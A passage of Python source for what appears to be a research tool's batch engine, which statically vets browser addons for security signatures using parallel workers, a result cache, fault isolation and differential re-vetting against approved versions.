    """Vet the benchmark corpus (or a subset) through the batch engine,
    carrying each addon's manual signature so outcomes include the
    pass/fail/leak verdict."""
    from repro.addons import CORPUS

    chosen = list(specs) if specs is not None else list(CORPUS)
    tasks = [
        VetTask(
            name=spec.name,
            source=spec.source(),
            k=k,
            runs=runs,
            manual_text=spec.manual_signature_text,
            real_extras_text=spec.real_extras_text,
        )
        for spec in chosen
    ]
    return vet_many(
        tasks, workers=workers, use_cache=use_cache,
        cache_dir=cache_dir, timeout=timeout,
    )


def parallel_map(fn, items, *, workers: int | None = None) -> list:
    """Order-preserving parallel map over a picklable, module-level
    function (used by the cheap corpus sweeps, e.g. Table 1 sizing).
    Falls back to a plain map when only one worker is available."""
    items = list(items)
    worker_count = _resolve_workers(workers, len(items))
    if worker_count <= 1 or len(items) <= 1:
        return [fn(item) for item in items]
    try:
        with ProcessPoolExecutor(max_workers=worker_count) as executor:
            return list(executor.map(_parallel_map_worker, [(fn, item) for item in items]))
    except (OSError, ValueError):
        return [fn(item) for item in items]
