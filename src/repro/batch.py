"""The parallel corpus vetting engine.

Batch-mode static vetting makes the corpus dimension embarrassingly
parallel: every addon's pipeline (P1 base analysis, P2 annotated PDG, P3
signature inference) is independent of every other addon's, so
:func:`vet_many` fans the corpus out over a ``ProcessPoolExecutor`` with

- **per-addon isolation with typed outcomes** — a parse error becomes a
  typed failure (:class:`repro.faults.FailureKind`), a blown analysis
  budget (fixpoint steps, cooperative wall-clock deadline, abstract
  states) *degrades* to a sound ⊤-widened signature flagged
  ``degraded``, a broken pool re-runs its stranded tasks in-process,
  and a corrupt cache entry is quarantined — nothing one addon does
  kills the batch or goes unreported (:func:`summarize` gives the
  per-kind breakdown);
- **an on-disk result cache** keyed by ``(sha256(source), k, spec
  fingerprint, engine/repro version)`` — re-vetting an unchanged addon
  under an unchanged policy is a cache hit, which is what makes a
  vetting *service* cheap under heavy re-submission traffic;
- **deterministic outcomes** — a :class:`VetOutcome` is a compact,
  JSON-serializable summary (canonical signature text, verdict, phase
  times, hot-path counters), so parallel, sequential, and cached runs
  are directly comparable (and tested to be identical);
- **differential vetting** — a task carrying a *baseline* (the approved
  previous version's source and signature) takes the incremental fast
  lane when the change-surface certificate holds
  (:mod:`repro.diffvet.incremental`): the approved signature is served
  without re-running the interpreter, and otherwise the full
  re-analysis is diffed against the baseline
  (:func:`repro.diffvet.diff.diff_signatures`) into an
  ``approve-fast`` / ``approve`` / ``re-review`` verdict with witness
  paths for every widened or new flow. :class:`repro.diffvet.store
  .VersionStore` supplies baselines from per-addon version chains.

The evaluation harness (Table 1/2, the timing protocol, ``addon-sig
bench``) is built on this engine; :func:`vet_corpus` is the
corpus-shaped convenience entry.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import random
import time
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from dataclasses import dataclass, field
from pathlib import Path

import repro
from repro.faults import Budget, FailureKind, RetryPolicy, classify_exception
from repro.perf import median_report
from repro.signatures.spec import SecuritySpec
from repro.store import JsonStore

#: Bump when the pipeline's observable output changes (invalidates every
#: cached outcome, together with ``repro.__version__``).
#: v3: the relevance prefilter joined the pipeline (outcomes carry
#: ``prefiltered`` and the cache key the prefilter switch).
#: v4: differential vetting (baseline-aware cache key; outcomes carry
#: ``incremental``/``diff_verdict``/``diff_changes``/``diff_witnesses``
#: and the kept timing-sample count).
#: v5: cost-gated fast lane (small updates skip certification; the gate
#: is part of the cache key, and outcomes count attempted/skipped
#: certifications).
#: v6: WebExtensions (``repro.webext``): bundle sources route through
#: the multi-file pipeline with the chrome.* model and the sender-guard
#: downgrade, so a bundle's signature can differ from what v5 (a parse
#: error on bundle text) produced.
#: v7: whole-program pre-analysis (``repro.preanalysis``): computed
#: properties resolve against a constant-string lattice (prefilter
#: decisions can change), dead top-level functions are pruned before
#: lowering, and outcomes carry the pre-analysis counters; the switch
#: joins the cache key.
ENGINE_VERSION = 7

#: The fast lane's cost gate: updates whose new version is smaller than
#: this (source characters) skip the change-surface certificate and go
#: straight to full re-analysis. Certification parses both versions and
#: walks their surfaces — on a small addon that costs more than the full
#: pipeline it is trying to avoid, so attempting it loses wall clock
#: even when the certificate would hold. The threshold approximates the
#: size (roughly 250-300 AST nodes at the corpus's ~14 chars/node) below
#: which measured full-analysis time drops to certification time.
FAST_LANE_MIN_SOURCE_CHARS = 4096


# ----------------------------------------------------------------------
# Tasks and outcomes


@dataclass(frozen=True)
class VetTask:
    """One unit of batch vetting work (picklable, immutable)."""

    name: str
    source: str
    k: int = 1
    #: Timing runs; with ``runs > 1`` the first run is discarded and the
    #: per-phase median of the rest is reported (the paper's protocol).
    runs: int = 1
    #: Manual signature text to compare against (Table 2 methodology).
    manual_text: str | None = None
    real_extras_text: str = ""
    #: Fixpoint step budget; ``None`` = the interpreter default. A blown
    #: budget degrades the outcome (sound ⊤-widened signature) rather
    #: than failing it.
    max_steps: int | None = None
    #: Skip unparseable top-level statements and vet the remainder
    #: (degraded outcome) instead of failing on the first parse error.
    recover: bool = False
    #: Run the sound relevance prefilter first: an addon whose syntactic
    #: surface cannot reach the spec gets the trivially-empty signature
    #: without the interpreter (bit-identical results either way; see
    #: ``repro.lint.surface``). On by default in batch vetting.
    prefilter: bool = True
    #: Run the whole-program pre-analysis (computed-property resolution,
    #: call graph, sound pruning) between parsing and lowering. On by
    #: default; signatures are bit-identical either way (the resolution
    #: only *demotes* dynamic-property refusals, and pruning is proven
    #: signature-preserving — see ``repro.preanalysis``).
    preanalysis: bool = True
    #: The approved previous version's source, for differential vetting.
    #: With both baseline fields set, the task is an *update*: the
    #: incremental fast lane may serve the baseline signature, and a
    #: full re-analysis is diffed against it into a diff verdict.
    baseline_source: str | None = None
    #: The approved previous version's signature (canonical text).
    baseline_signature_text: str | None = None
    #: Allow the incremental fast lane for this task (off = always
    #: re-analyze in full, but still diff against the baseline; the
    #: bench uses off as the control arm).
    incremental: bool = True
    #: Cost gate for the fast lane: skip certification when the new
    #: version has fewer source characters than this (``None`` = the
    #: engine default, ``FAST_LANE_MIN_SOURCE_CHARS``; 0 = always
    #: attempt). Tests exercising fast-lane mechanics on tiny fixtures
    #: set 0; production sweeps keep the default.
    fast_lane_min_chars: int | None = None


@dataclass
class VetOutcome:
    """The compact, serializable result of vetting one addon."""

    name: str
    ok: bool
    error: str | None = None
    #: Typed failure classification (a :class:`repro.faults.FailureKind`
    #: value) when ``ok`` is false; ``error`` keeps the human detail.
    failure: str | None = None
    #: True when the run completed but had to degrade (budget trip,
    #: skipped statements): the signature is sound but ⊤-widened.
    degraded: bool = False
    #: The degradation events, as ``{"kind": ..., "detail": ...}``.
    degradations: list[dict] = field(default_factory=list)
    #: Canonical (sorted) rendering of the inferred signature.
    signature_text: str = ""
    verdict: str | None = None
    extra_entries: list[str] = field(default_factory=list)
    missing_entries: list[str] = field(default_factory=list)
    ast_nodes: int = 0
    #: Median phase times in seconds: {"p1": ..., "p2": ..., "p3": ...}.
    times: dict[str, float] | None = None
    #: Hot-path counters of the (last) run.
    counters: dict[str, int] = field(default_factory=dict)
    #: How many timing samples the per-phase medians summarize (after
    #: the warm-up discard): 1 means ``times`` is a single sample, not a
    #: median of several.
    timing_samples: int = 0
    #: True when the relevance prefilter proved the addon trivially
    #: safe and the interpreter never ran for it.
    prefiltered: bool = False
    #: True when the incremental fast lane served the baseline signature
    #: (change-surface certificate held; interpreter never ran).
    incremental: bool = False
    #: Differential verdict against the baseline, when one was given:
    #: ``approve-fast`` (fast lane), ``approve`` (re-analyzed, nothing
    #: widened or new), ``re-review`` (widened/new flows present).
    diff_verdict: str | None = None
    #: The classified entry changes vs. the baseline, as
    #: ``{"kind": ..., "old": ..., "new": ...}`` (see
    #: :mod:`repro.diffvet.diff`); empty for fast-lane outcomes.
    diff_changes: list[dict] = field(default_factory=list)
    #: Rendered ``explain_flow`` witness paths for every widened or
    #: new flow entry (the re-review evidence).
    diff_witnesses: list[str] = field(default_factory=list)
    #: True when this outcome was served from the on-disk cache.
    cached: bool = False

    @property
    def total_time(self) -> float:
        return sum((self.times or {}).values())

    @property
    def degradation_kinds(self) -> list[str]:
        """The distinct degradation kinds of this outcome, sorted.

        Tolerant of malformed events (a cache round-trip of a poison
        shard can hand back non-dict entries or kindless dicts): those
        bucket as ``unclassified`` instead of raising."""
        kinds = set()
        for event in self.degradations:
            if isinstance(event, dict) and event.get("kind"):
                kinds.add(str(event["kind"]))
            else:
                kinds.add("unclassified")
        return sorted(kinds)

    def to_json(self) -> dict:
        data = dataclasses.asdict(self)
        data.pop("cached")  # a property of the lookup, not the result
        return data

    @classmethod
    def from_json(cls, data: dict, cached: bool = False) -> "VetOutcome":
        known = {f.name for f in dataclasses.fields(cls)}
        outcome = cls(**{k: v for k, v in data.items() if k in known})
        outcome.cached = cached
        return outcome


# ----------------------------------------------------------------------
# Cache


def default_cache_dir() -> Path:
    """``$ADDON_SIG_CACHE`` > ``$XDG_CACHE_HOME/addon-sig`` >
    ``~/.cache/addon-sig``."""
    override = os.environ.get("ADDON_SIG_CACHE")
    if override:
        return Path(override)
    xdg = os.environ.get("XDG_CACHE_HOME")
    base = Path(xdg) if xdg else Path.home() / ".cache"
    return base / "addon-sig"


def _canonical(obj: object) -> object:
    """A deterministic, JSON-able projection of a (frozen-dataclass)
    security spec — frozensets sorted, dataclasses tagged by class."""
    if dataclasses.is_dataclass(obj) and not isinstance(obj, type):
        return [
            type(obj).__name__,
            {
                f.name: _canonical(getattr(obj, f.name))
                for f in dataclasses.fields(obj)
            },
        ]
    if isinstance(obj, (set, frozenset)):
        return sorted(_canonical(item) for item in obj)  # type: ignore[type-var]
    if isinstance(obj, (list, tuple)):
        return [_canonical(item) for item in obj]
    return obj


def spec_fingerprint(spec: SecuritySpec | None) -> str:
    """A stable hash of a security spec (``None`` = the default Mozilla
    spec, fingerprinted by name so the default can evolve with the
    version stamp rather than an import)."""
    if spec is None:
        return "mozilla-default"
    payload = json.dumps(_canonical(spec), sort_keys=True)
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def cache_key(task: VetTask, spec: SecuritySpec | None) -> str:
    """The on-disk cache key: source bytes, sensitivity, spec, manual
    comparison inputs, timing protocol, and the code version."""
    payload = json.dumps(
        {
            "engine": ENGINE_VERSION,
            "repro": repro.__version__,
            "source": hashlib.sha256(task.source.encode("utf-8")).hexdigest(),
            "k": task.k,
            "runs": task.runs,
            "spec": spec_fingerprint(spec),
            "manual": task.manual_text,
            "extras": task.real_extras_text,
            "max_steps": task.max_steps,
            "recover": task.recover,
            "prefilter": task.prefilter,
            "preanalysis": task.preanalysis,
            "baseline": (
                hashlib.sha256(
                    task.baseline_source.encode("utf-8")
                ).hexdigest()
                if task.baseline_source is not None
                else None
            ),
            "baseline_sig": task.baseline_signature_text,
            "incremental": task.incremental,
            "fast_lane_min_chars": task.fast_lane_min_chars,
        },
        sort_keys=True,
    )
    return hashlib.sha256(payload.encode("utf-8")).hexdigest()


def _cache_max_entries(override: int | None) -> int | None:
    """The cache's LRU bound: an explicit override, else
    ``$ADDON_SIG_CACHE_MAX_ENTRIES``, else unbounded. Zero or negative
    disables the bound."""
    if override is not None:
        return override if override > 0 else None
    env = os.environ.get("ADDON_SIG_CACHE_MAX_ENTRIES")
    if not env:
        return None
    try:
        parsed = int(env)
    except ValueError:
        return None
    return parsed if parsed > 0 else None


def _open_cache(
    cache_dir: str | os.PathLike | None, max_entries: int | None
) -> JsonStore:
    """The outcome cache as a crash-consistent :class:`JsonStore` (flat
    layout — the historical ``<key>.json`` format — no fsync: a crash
    may lose a fresh entry but can never tear one)."""
    directory = Path(cache_dir) if cache_dir is not None else default_cache_dir()
    return JsonStore(
        directory, shards=1, max_entries=_cache_max_entries(max_entries)
    )


def _cache_load(
    cache: JsonStore, key: str, name: str
) -> tuple[VetOutcome | None, bool]:
    """Load one cache entry. Returns ``(outcome, quarantined)``.

    An unreadable *file* (absent, permission) is a plain miss. A file
    that reads but does not decode into an outcome — truncated JSON,
    garbage bytes, a foreign schema — is *corrupt*: it is renamed to
    ``<key>.corrupt`` so it never masquerades as a miss again (and can
    be inspected), and the quarantine is reported via the recomputed
    outcome's counters."""
    data, quarantined = cache.load(key)
    if data is None:
        return None, quarantined
    try:
        outcome = VetOutcome.from_json(data, cached=True)
    except Exception:  # decodes but is not an outcome: foreign schema
        cache.quarantine(key)
        return None, True
    outcome.name = name  # the same source may be vetted under any name
    return outcome, False


#: Counters that describe one *lookup/run* of the engine, not the
#: analysis result itself. They must never be persisted: a cached
#: outcome replayed N times would otherwise re-report the same event N
#: times (see the quarantine double-count regression test).
_TRANSIENT_COUNTERS = frozenset({"cache_quarantined", "pool_retries"})


def _cache_store(cache: JsonStore, key: str, outcome: VetOutcome) -> None:
    data = outcome.to_json()
    data["counters"] = {
        name: value
        for name, value in data.get("counters", {}).items()
        if name not in _TRANSIENT_COUNTERS
    }
    # Atomic publish (and LRU eviction) inside the store layer: a
    # read-only cache directory must not fail the batch, and a reader
    # can never observe a half-written entry.
    cache.put(key, data)


def _bump_counter(outcome: VetOutcome, name: str, by: int = 1) -> VetOutcome:
    """Annotate a lookup-layer event (quarantine, pool retry) on a
    *copy* of the outcome. The original — which may be cached on disk,
    held by a :class:`~repro.diffvet.store.VersionStore` chain, or
    shared with the caller — must stay pristine, or repeated lookups
    double-count the event (the PR-4 quarantine bug)."""
    counters = dict(outcome.counters)
    counters[name] = counters.get(name, 0) + by
    return dataclasses.replace(outcome, counters=counters)


# ----------------------------------------------------------------------
# Workers (module-level: picklable for the process pool)


def _task_budget(task: VetTask, timeout: float | None) -> Budget | None:
    """The per-run cooperative budget of a task; ``None`` means the
    interpreter default (steps-only)."""
    if timeout is None and task.max_steps is None:
        return None
    return Budget(
        max_steps=task.max_steps if task.max_steps is not None else 400_000,
        max_seconds=timeout,
    )


def _fast_lane_outcome(
    task: VetTask, spec: SecuritySpec | None, manual, extras
) -> VetOutcome | None:
    """Try the incremental fast lane for an update task. Returns the
    served outcome when the change-surface certificate holds, ``None``
    when it is refused (the caller falls back to full re-analysis).

    The fast lane never runs on degraded machinery: the certificate
    itself refuses dynamic code, recovery skips, and unparseable input,
    and baselines come from clean (non-degraded) outcomes only — the
    :class:`~repro.diffvet.store.VersionStore` records nothing else.
    """
    from repro.browser import mozilla_spec
    from repro.diffvet.incremental import certify_unchanged
    from repro.signatures import parse_signature
    from repro.signatures.compare import compare

    assert task.baseline_source is not None
    assert task.baseline_signature_text is not None
    started = time.perf_counter()
    resolved = spec if spec is not None else mozilla_spec()
    certificate = certify_unchanged(
        task.baseline_source, task.source, resolved, recover=task.recover
    )
    if not certificate.certified:
        return None
    baseline = parse_signature(task.baseline_signature_text)
    comparison = compare(baseline, manual, extras) if manual is not None else None
    elapsed = time.perf_counter() - started
    return VetOutcome(
        name=task.name,
        ok=True,
        signature_text=baseline.render(),
        verdict=comparison.verdict.value if comparison is not None else None,
        extra_entries=(
            sorted(entry.render() for entry in comparison.extra)
            if comparison is not None else []
        ),
        missing_entries=(
            sorted(entry.render() for entry in comparison.missing)
            if comparison is not None else []
        ),
        ast_nodes=certificate.new_ast_nodes,
        times={"p1": elapsed, "p2": 0.0, "p3": 0.0},
        counters={
            "incremental": 1,
            "certification_attempted": 1,
            "diff_changed_statements": certificate.changed_statements,
        },
        timing_samples=1,
        incremental=True,
        diff_verdict="approve-fast",
    )


def _diff_against_baseline(task: VetTask, report) -> tuple[str, list, list]:
    """Diff a full re-analysis against the task's baseline signature:
    ``(diff_verdict, diff_changes, diff_witnesses)``."""
    from repro.diffvet.diff import diff_signatures
    from repro.signatures import parse_signature
    from repro.signatures.explain import explain_flow

    baseline = parse_signature(task.baseline_signature_text)
    diff = diff_signatures(baseline, report.signature)
    witnesses: list[str] = []
    if report.pdg is not None:
        for entry in diff.review_flows:
            witness = explain_flow(report.pdg, report.detail, entry)
            if witness is not None:
                witnesses.append(witness.render())
    return (
        diff.verdict,
        [change.to_json() for change in diff.changes],
        witnesses,
    )


def _execute_task(
    task: VetTask, spec: SecuritySpec | None, timeout: float | None = None
) -> VetOutcome:
    """Vet one addon, with the paper's timing protocol when ``runs > 1``.
    Never raises: every failure becomes a *typed* failure outcome, every
    budget trip a *degraded* outcome.

    ``timeout`` is the per-run wall-clock budget, enforced cooperatively
    inside the analysis fixpoint — so it is honored identically whether
    this runs in a pool worker or in-process.

    A task with a baseline is an *update*: the incremental fast lane is
    tried first (unless ``task.incremental`` is off or the cost gate
    predicts full re-analysis is cheaper), and a full re-analysis is
    classified against the baseline into a diff verdict."""
    from repro.api import vet
    from repro.signatures import parse_signature

    try:
        manual = (
            parse_signature(task.manual_text)
            if task.manual_text is not None
            else None
        )
        extras = (
            frozenset(parse_signature(task.real_extras_text).entries)
            if task.real_extras_text
            else frozenset()
        )
        has_baseline = (
            task.baseline_source is not None
            and task.baseline_signature_text is not None
        )
        certification: str | None = None
        if has_baseline and task.incremental:
            gate = (
                task.fast_lane_min_chars
                if task.fast_lane_min_chars is not None
                else FAST_LANE_MIN_SOURCE_CHARS
            )
            if len(task.source) >= gate:
                certification = "attempted"
                served = _fast_lane_outcome(task, spec, manual, extras)
                if served is not None:
                    return served
            else:
                # Below the gate, the certificate's double parse costs
                # more than the full pipeline — skip straight to it.
                certification = "skipped"
        budget = _task_budget(task, timeout)
        samples = []
        report = None
        for _ in range(max(1, task.runs)):
            report = vet(
                task.source, manual=manual, real_extras=extras,
                spec=spec, k=task.k, budget=budget, recover=task.recover,
                prefilter=task.prefilter, preanalysis=task.preanalysis,
            )
            samples.append(report.phase_times)
            if report.degraded:
                # Extra timing runs of a degraded pipeline are wasted
                # wall clock (and a time-tripped run would trip again).
                break
        assert report is not None and report.phase_times is not None
        times, kept = median_report(samples)
        comparison = report.comparison
        diff_verdict = None
        diff_changes: list = []
        diff_witnesses: list = []
        if has_baseline:
            diff_verdict, diff_changes, diff_witnesses = (
                _diff_against_baseline(task, report)
            )
        counters = dict(report.counters)
        if certification is not None:
            counters[f"certification_{certification}"] = 1
        return VetOutcome(
            name=task.name,
            ok=True,
            degraded=report.degraded,
            degradations=[d.to_json() for d in report.degradations],
            signature_text=report.signature.render(),
            verdict=comparison.verdict.value if comparison is not None else None,
            extra_entries=(
                sorted(entry.render() for entry in comparison.extra)
                if comparison is not None else []
            ),
            missing_entries=(
                sorted(entry.render() for entry in comparison.missing)
                if comparison is not None else []
            ),
            ast_nodes=report.ast_nodes,
            times={"p1": times.p1, "p2": times.p2, "p3": times.p3},
            counters=counters,
            timing_samples=kept,
            prefiltered=report.prefiltered,
            diff_verdict=diff_verdict,
            diff_changes=diff_changes,
            diff_witnesses=diff_witnesses,
        )
    except Exception as exc:  # isolation: one bad addon never kills a batch
        return VetOutcome(
            name=task.name, ok=False,
            failure=classify_exception(exc).value,
            error=f"{type(exc).__name__}: {exc}",
        )


def _parallel_map_worker(payload: tuple) -> object:
    fn, item = payload
    return fn(item)


# ----------------------------------------------------------------------
# The engine


def _normalize(items, k: int, runs: int, prefilter: bool) -> list[VetTask]:
    tasks: list[VetTask] = []
    for index, item in enumerate(items):
        if isinstance(item, VetTask):
            tasks.append(item)
        else:
            tasks.append(VetTask(
                name=f"addon-{index}", source=item, k=k, runs=runs,
                prefilter=prefilter,
            ))
    return tasks


def _resolve_workers(workers: int | None, pending: int) -> int:
    if workers is not None:
        return max(1, workers)
    return max(1, min(pending, os.cpu_count() or 1))


def _resolve_baseline_pair(baseline, name: str) -> tuple[str, str] | None:
    """Look one addon's baseline up in whatever the caller passed: a
    :class:`~repro.diffvet.store.VersionStore`, or a mapping from name
    to ``(source, signature_text)`` (or to a ``VersionRecord``)."""
    from repro.diffvet.store import VersionRecord, VersionStore

    if baseline is None:
        return None
    if isinstance(baseline, VersionStore):
        record = baseline.baseline(name)
        return (record.source, record.signature_text) if record else None
    value = baseline.get(name)
    if value is None:
        return None
    if isinstance(value, VersionRecord):
        return (value.source, value.signature_text)
    source, signature_text = value
    return (source, signature_text)


def _with_baselines(tasks: list[VetTask], baseline) -> list[VetTask]:
    if baseline is None:
        return tasks
    resolved = []
    for task in tasks:
        if task.baseline_source is not None:
            resolved.append(task)  # an explicit baseline wins
            continue
        pair = _resolve_baseline_pair(baseline, task.name)
        if pair is None:
            resolved.append(task)
        else:
            resolved.append(dataclasses.replace(
                task, baseline_source=pair[0], baseline_signature_text=pair[1]
            ))
    return resolved


def vet_many(
    items,
    *,
    spec: SecuritySpec | None = None,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    cache_max_entries: int | None = None,
    timeout: float | None = None,
    prefilter: bool = True,
    baseline=None,
    store=None,
    pool_retry: RetryPolicy | None = None,
) -> list[VetOutcome]:
    """Vet many addons, in parallel, with caching and error isolation.

    ``items`` — :class:`VetTask` objects, or plain source strings (named
    ``addon-N``; ``k``/``runs``/``prefilter`` apply to string items
    only).
    ``prefilter`` — run the sound relevance prefilter before the full
    pipeline (on by default): spec-irrelevant addons come back with the
    trivially-empty signature and ``outcome.prefiltered`` set, without
    the interpreter ever running. Results are bit-identical with the
    prefilter off.
    ``workers`` — process count; ``None`` = one per CPU (capped at the
    task count); ``1`` = run in-process (no pool).
    ``timeout`` — per-run wall-clock budget in seconds, enforced
    *cooperatively* inside the analysis fixpoint, so it is honored by
    in-process runs and pool workers alike. A timed-out run degrades to
    a sound ⊤-widened signature; a hard pool-level backstop (for work
    wedged outside the fixpoint) yields a ``budget-time`` failure.
    ``baseline`` — approved previous versions for differential vetting:
    a :class:`~repro.diffvet.store.VersionStore` or a mapping from task
    name to ``(source, signature_text)``. Tasks that resolve a baseline
    get the incremental fast lane and a diff verdict
    (``outcome.diff_verdict``); tasks without one vet cold as before.
    ``store`` — a :class:`~repro.diffvet.store.VersionStore` to record
    clean (ok, non-degraded) outcomes into, advancing each addon's
    version chain; when ``baseline`` is omitted, the store also supplies
    the baselines, which is the long-running-service shape: every sweep
    diffs against the last and extends the chains.
    ``cache_max_entries`` — LRU bound on the outcome cache (reads
    refresh recency; overflowing writes evict the stalest entries);
    ``None`` defers to ``$ADDON_SIG_CACHE_MAX_ENTRIES``, else
    unbounded.
    ``pool_retry`` — the :class:`~repro.faults.RetryPolicy` governing
    pool rebuilds after worker death (default: 3 attempts, exponential
    backoff with jitter); tasks that exhaust it are salvaged with one
    final in-process run.

    Returns one outcome per item, in input order. Failures are typed
    (:class:`repro.faults.FailureKind` in ``outcome.failure``) and
    degradations flagged (``outcome.degraded``) — nothing in here
    raises for a bad addon. Use :func:`summarize` for the per-kind
    breakdown of a batch.
    """
    tasks = _normalize(items, k=k, runs=runs, prefilter=prefilter)
    if baseline is None and store is not None:
        baseline = store
    tasks = _with_baselines(tasks, baseline)
    cache = _open_cache(cache_dir, cache_max_entries)

    outcomes: dict[int, VetOutcome] = {}
    quarantined: set[int] = set()
    pending: list[tuple[int, VetTask, str | None]] = []
    for index, task in enumerate(tasks):
        key = cache_key(task, spec) if use_cache else None
        if key is not None:
            hit, corrupt = _cache_load(cache, key, task.name)
            if corrupt:
                quarantined.add(index)
            if hit is not None:
                outcomes[index] = hit
                continue
        pending.append((index, task, key))

    if pending:
        worker_count = _resolve_workers(workers, len(pending))
        # A single miss (or workers=1) runs in-process; the cooperative
        # budget enforces ``timeout`` there just as in a pool worker.
        if worker_count <= 1 or len(pending) <= 1:
            fresh = [(index, key, _execute_task(task, spec, timeout))
                     for index, task, key in pending]
        else:
            fresh = _run_pool(pending, spec, worker_count, timeout, pool_retry)
        for index, key, outcome in fresh:
            # Degraded outcomes are machine/load-dependent (a deadline
            # that tripped here may not trip elsewhere): never cache.
            # Stored before any lookup-layer annotation, so the cached
            # object is pristine.
            if key is not None and outcome.ok and not outcome.degraded:
                _cache_store(cache, key, outcome)
            if index in quarantined:
                # Surface the quarantine once, on a copy of the
                # recomputed outcome — never by mutating an object that
                # is cached or shared (that double-counts on replay).
                outcome = _bump_counter(outcome, "cache_quarantined")
            outcomes[index] = outcome

    ordered = [outcomes[index] for index in range(len(tasks))]
    if store is not None:
        for task, outcome in zip(tasks, ordered):
            if outcome.ok and not outcome.degraded:
                store.record(
                    task.name, task.source, outcome.signature_text,
                    verdict=outcome.verdict,
                    diff_verdict=outcome.diff_verdict,
                )
    return ordered


def _hard_timeout(task: VetTask, timeout: float | None) -> float | None:
    """The pool-level backstop for one task: the cooperative per-run
    deadline normally fires first, so this only catches work wedged
    outside the fixpoint loop (parsing, PDG, inference, a stuck
    worker). Generous by design: runs x timeout plus grace."""
    if timeout is None:
        return None
    return timeout * max(1, task.runs) + 10.0


def _run_pool(
    pending: list[tuple[int, VetTask, str | None]],
    spec: SecuritySpec | None,
    worker_count: int,
    timeout: float | None,
    policy: RetryPolicy | None = None,
) -> list[tuple[int, str | None, VetOutcome]]:
    """Fan pending tasks over a supervised process pool.

    Failure containment, in order of preference:

    - a worker that *returns* never raises (:func:`_execute_task`), so
      per-task faults arrive as typed failure / degraded outcomes;
    - a task that outlives its hard backstop becomes a ``budget-time``
      failure outcome;
    - a broken pool (a worker process died) strands every task whose
      future it poisoned — the pool is *rebuilt* and the stranded tasks
      resubmitted under the shared backoff-with-jitter
      :class:`~repro.faults.RetryPolicy` (so a second or third worker
      death in one run keeps its parallelism instead of aborting to a
      sequential crawl); a task that exhausts the policy is salvaged
      with one final sequential in-process run;
    - a pool that cannot be created at all (no fork/semaphores) falls
      back to sequential in-process execution.

    Every re-executed task carries a ``pool_retries`` counter (how many
    times it was stranded and re-run); :func:`summarize` folds those
    into totals and a per-attempt histogram.
    """
    from concurrent.futures.process import BrokenProcessPool

    policy = policy if policy is not None else RetryPolicy()
    rng = random.Random(len(pending))  # deterministic jitter per batch
    results: list[tuple[int, str | None, VetOutcome]] = []
    retries: dict[int, int] = {}
    executions: dict[int, int] = {}
    queue = list(pending)
    round_number = 0
    while queue:
        try:
            executor = ProcessPoolExecutor(max_workers=worker_count)
        except (OSError, ValueError):  # no fork/semaphores available here
            break  # sequential salvage below
        stranded: list[tuple[int, VetTask, str | None]] = []
        pool_broke = False
        try:
            futures = []
            try:
                for index, task, key in queue:
                    executions[index] = executions.get(index, 0) + 1
                    futures.append((
                        index, task, key,
                        executor.submit(_execute_task, task, spec, timeout),
                    ))
            except BrokenProcessPool:  # died during submission
                pool_broke = True
                submitted = {entry[0] for entry in futures}
                stranded.extend(
                    item for item in queue if item[0] not in submitted
                )
            for position, (index, task, key, future) in enumerate(futures):
                try:
                    outcome = future.result(
                        timeout=_hard_timeout(task, timeout)
                    )
                    if retries.get(index):
                        outcome = _bump_counter(
                            outcome, "pool_retries", retries[index]
                        )
                    results.append((index, key, outcome))
                except FutureTimeoutError:
                    future.cancel()
                    results.append((
                        index, key,
                        VetOutcome(
                            name=task.name, ok=False,
                            failure=FailureKind.BUDGET_TIME.value,
                            error=f"timeout: exceeded {timeout}s wall-clock budget",
                        ),
                    ))
                except BrokenProcessPool:
                    # The pool is dead: every remaining future is
                    # poisoned. Strand them all for a fresh pool.
                    pool_broke = True
                    stranded.extend(
                        (s_index, s_task, s_key)
                        for s_index, s_task, s_key, _ in futures[position:]
                    )
                    break
                except Exception as exc:  # e.g. an unpicklable result
                    results.append((
                        index, key,
                        VetOutcome(
                            name=task.name, ok=False,
                            failure=classify_exception(exc).value,
                            error=f"{type(exc).__name__}: {exc}",
                        ),
                    ))
        finally:
            # Don't block on workers wedged past their timeout.
            executor.shutdown(
                wait=timeout is None and not pool_broke, cancel_futures=True
            )
        if not stranded:
            return results
        # Split the stranded tasks: those the policy still allows go to
        # a rebuilt pool after a backoff; the rest fall through to the
        # sequential salvage pass.
        queue = []
        exhausted: list[tuple[int, VetTask, str | None]] = []
        for index, task, key in stranded:
            retries[index] = retries.get(index, 0) + 1
            if policy.allows(executions[index]):
                queue.append((index, task, key))
            else:
                exhausted.append((index, task, key))
        if queue:
            round_number += 1
            time.sleep(policy.delay(round_number, rng))
        if exhausted:
            for index, task, key in exhausted:
                outcome = _bump_counter(
                    _execute_task(task, spec, timeout),
                    "pool_retries", retries[index],
                )
                results.append((index, key, outcome))
    # Pool could not be (re)created at all: sequential salvage.
    for index, task, key in queue:
        outcome = _execute_task(task, spec, timeout)
        if retries.get(index):
            outcome = _bump_counter(outcome, "pool_retries", retries[index])
        results.append((index, key, outcome))
    return results


def vet_corpus(
    specs=None,
    *,
    k: int = 1,
    runs: int = 1,
    workers: int | None = None,
    use_cache: bool = True,
    cache_dir: str | os.PathLike | None = None,
    timeout: float | None = None,
    max_steps: int | None = None,
    recover: bool = False,
    prefilter: bool = True,
    baseline=None,
    store=None,
) -> list[VetOutcome]:
    """Vet the benchmark corpus (or a subset) through the batch engine,
    carrying each addon's manual signature so outcomes include the
    pass/fail/leak verdict. ``timeout``/``max_steps``/``recover`` apply
    the engine's fault-tolerance knobs to every addon; ``baseline`` /
    ``store`` turn the sweep into a *differential* one (each addon
    diffed against its approved version, fast lane where the
    change-surface certificate holds); see :func:`vet_many`."""
    from repro.addons import CORPUS

    chosen = list(specs) if specs is not None else list(CORPUS)
    tasks = [
        VetTask(
            name=spec.name,
            source=spec.source(),
            k=k,
            runs=runs,
            manual_text=spec.manual_signature_text,
            real_extras_text=spec.real_extras_text,
            max_steps=max_steps,
            recover=recover,
            prefilter=prefilter,
        )
        for spec in chosen
    ]
    return vet_many(
        tasks, workers=workers, use_cache=use_cache,
        cache_dir=cache_dir, timeout=timeout,
        baseline=baseline, store=store,
    )


def summarize(outcomes: list[VetOutcome]) -> dict:
    """The robustness breakdown of a batch: per-kind failure and
    degradation counts, plus the headline totals.

    JSON-shaped; this is what ``table2`` footers, ``bench`` reports, and
